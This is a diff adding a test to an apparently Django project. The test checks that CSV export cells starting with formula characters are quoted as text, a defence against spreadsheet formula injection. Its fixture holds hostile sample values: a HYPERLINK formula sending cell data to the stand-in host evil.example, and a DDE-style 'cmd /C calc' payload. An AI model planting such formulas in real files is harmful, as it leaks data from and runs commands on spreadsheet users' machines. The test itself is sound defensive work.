@@ -281,3 +281,30 @@ def test_exports_run_a_constant_number_of_queries(client, django_assert_num_quer
         response = client.get(f"{url}?surface_min=10&activity=cultural")
 
     assert response.status_code == 200
+
+
+def test_csv_cells_that_start_like_a_formula_are_quoted_as_text(client):
+    SiteFactory(
+        reference="S-2026-00099",
+        title_nl='=HYPERLINK("https://evil.example/?d="&A1,"Klik")',
+        title_fr="+33 1 23 45 67 89",
+        description_nl="@SUM(1+1)*cmd|' /C calc'!A0",
+        description_fr="-1+1",
+        units=[150],
+    )
+    [row] = csv_rows(client)
+    assert (
+        row["title_nl"],
+        row["title_fr"],
+        row["description_nl"],
+        row["description_fr"],
+        row["total_surface_m2"],
+        row["units"],
+    ) == (
+        '\'=HYPERLINK("https://evil.example/?d="&A1,"Klik")',
+        "'+33 1 23 45 67 89",
+        "'@SUM(1+1)*cmd|' /C calc'!A0",
+        "'-1+1",
+        "150.0",
+        "1",
+    )
